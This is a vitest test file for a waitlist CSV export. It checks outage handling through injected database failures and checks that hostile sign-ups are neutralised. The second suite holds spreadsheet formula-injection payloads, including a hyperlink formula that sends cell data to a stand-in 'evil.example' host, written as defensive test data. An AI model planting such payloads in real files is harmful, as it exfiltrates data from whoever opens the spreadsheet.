import { waitlistEntries, type Database } from "@bayan/db";
import { testDatabaseKinds } from "@bayan/db/testing";
import { createTestDeps, TEST_ADMIN_PASSWORD } from "@bayan/trpc/testing";
import { request as httpRequest } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildApp } from "../app.js";
import { setupApp } from "../../test/app.js";

/**
 * The real database, except that reading waitlist rows fails from the `failAt`-th read on (counted
 * from when it is set): an outage arriving before or in the middle of an export.
 */
function faultyReads(db: Database) {
  const state = { failAt: 0, reads: 0 };
  const bind = (target: object, key: string | symbol) => {
    const value: unknown = Reflect.get(target, key, target);
    return typeof value === "function" ? value.bind(target) : value;
  };
  const proxy = new Proxy(db, {
    get(target, key) {
      if (key !== "select") return bind(target, key);
      return (...args: Parameters<Database["select"]>) => {
        const builder = target.select(...args);
        return new Proxy(builder, {
          get(b, k) {
            if (k !== "from") return bind(b, k);
            return (table: unknown, ...rest: unknown[]) => {
              if (table === waitlistEntries && state.failAt > 0 && ++state.reads >= state.failAt) {
                throw new Error("Connection terminated unexpectedly");
              }
              return (b.from as (...a: unknown[]) => unknown)(table, ...rest);
            };
          },
        });
      };
    },
  });
  return { db: proxy, state };
}

/** A GET over a real connection: the status, the body received, and whether it ended cleanly. */
function download(port: number, path: string, authorization: string) {
  return new Promise<{ status: number; body: string; complete: boolean }>((resolve, reject) => {
    const req = httpRequest(
      { port, host: "127.0.0.1", path, headers: { authorization } },
      (res) => {
        let body = "";
        res.setEncoding("utf8");
        res.on("data", (chunk: string) => (body += chunk));
        res.on("end", () => resolve({ status: res.statusCode ?? 0, body, complete: res.complete }));
        res.on("error", () => resolve({ status: res.statusCode ?? 0, body, complete: false }));
        res.on("aborted", () => resolve({ status: res.statusCode ?? 0, body, complete: false }));
      },
    );
    req.on("error", reject);
    req.end();
  });
}

describe("the CSV export during a database outage", () => {
  let close: () => Promise<void>;
  let app: Awaited<ReturnType<typeof buildApp>>;
  let state: { failAt: number; reads: number };
  let port = 0;
  let authorization = "";

  beforeAll(async () => {
    const t = await createTestDeps("pglite");
    const faulty = faultyReads(t.db);
    state = faulty.state;
    // More than one page (1000 rows) so the export reads twice.
    await t.db
      .insert(waitlistEntries)
      .values(Array.from({ length: 1001 }, (_, i) => ({ email: `person${i}@example.com` })));
    app = await buildApp({ deps: { ...t.deps, db: faulty.db } });
    await app.listen({ port: 0, host: "127.0.0.1" });
    port = (app.server.address() as AddressInfo).port;
    const login = await app.inject({
      method: "POST",
      url: "/api/auth/login",
      payload: { password: TEST_ADMIN_PASSWORD },
    });
    authorization = `Bearer ${login.json().access_token as string}`;
    close = async () => {
      await app.close();
      await t.close();
    };
  });
  afterAll(() => close());

  /** Reads of waitlist rows a whole export makes (the queue's positions, then each page). */
  let readsPerExport = 0;

  it("sends the whole file when the database answers", async () => {
    // Counted, never failing: how many reads the whole export takes.
    state.failAt = Number.MAX_SAFE_INTEGER;
    state.reads = 0;
    const res = await download(port, "/api/waitlist/export.csv", authorization);
    readsPerExport = state.reads;
    expect(res.status).toBe(200);
    expect(res.complete).toBe(true);
    expect(res.body.trim().split("\n")).toHaveLength(1002);
  });

  it("answers an error status, not a 200 with only the header row, when the first read fails", async () => {
    state.failAt = 1;
    state.reads = 0;
    const res = await app.inject({
      method: "GET",
      url: "/api/waitlist/export.csv",
      headers: { authorization },
    });
    expect(res.statusCode).toBeGreaterThanOrEqual(500);
    expect(res.headers["content-type"]).toContain("application/json");
    expect(res.headers["content-disposition"]).toBeUndefined();
    expect(res.json().success).toBe(false);
  });

  it("aborts the transfer, never a clean end, when a later read fails", async () => {
    // The last page's read fails, after the first page went out.
    expect(readsPerExport).toBeGreaterThan(2);
    state.failAt = readsPerExport;
    state.reads = 0;
    const res = await download(port, "/api/waitlist/export.csv", authorization);
    expect(res.status).toBe(200);
    expect(res.body).toContain("person0@example.com");
    expect(res.complete).toBe(false);
  });
});

describe.each(testDatabaseKinds)("the CSV export of hostile sign-ups on %s", (kind) => {
  let t: Awaited<ReturnType<typeof setupApp>>;
  let auth: { authorization: string };

  beforeAll(async () => {
    t = await setupApp(kind);
    auth = await t.adminAuth();
  });
  afterAll(() => t.close());

  it("neutralises full-width formulas and quotes semicolons in the email, name and source", async () => {
    // Joined through the public form: each is a valid address, so it is stored as typed.
    const joins = [
      { email: '＝hyperlink("https://evil.example/"&a1;"x")@evil.example', source: "ads" },
      { email: "＠sum(a1;a2)@evil.example", source: "－2+3;x" },
      { email: "x;=1+2@evil.example", source: "＋1" },
    ];
    for (const payload of joins) {
      const joined = await t.app.inject({ method: "POST", url: "/api/waitlist", payload });
      expect(joined.statusCode, payload.email).toBe(201);
    }
    const res = await t.app.inject({
      method: "GET",
      url: "/api/waitlist/export.csv",
      headers: auth,
    });
    expect(res.statusCode).toBe(200);
    const lines = res.body.replace(/^\uFEFF/, "").split("\r\n");
    const line = (email: string) => lines.find((l) => l.includes(email.slice(1, 8)))!;
    // email, name (the email's local part), status, source: each formula behind an apostrophe,
    // each cell with a semicolon quoted, so no spreadsheet (comma or semicolon locale) runs it.
    expect(line(joins[0]!.email)).toContain(
      `,"'＝hyperlink(""https://evil.example/""&a1;""x"")@evil.example",` +
        `"'＝hyperlink(""https://evil.example/""&a1;""x"")",pending,ads,`,
    );
    expect(line(joins[1]!.email)).toContain(
      `,"'＠sum(a1;a2)@evil.example","'＠sum(a1;a2)",pending,"'－2+3;x",`,
    );
    expect(line(joins[2]!.email)).toContain(`,"x;=1+2@evil.example","x;=1+2",pending,'＋1,`);
  });
});
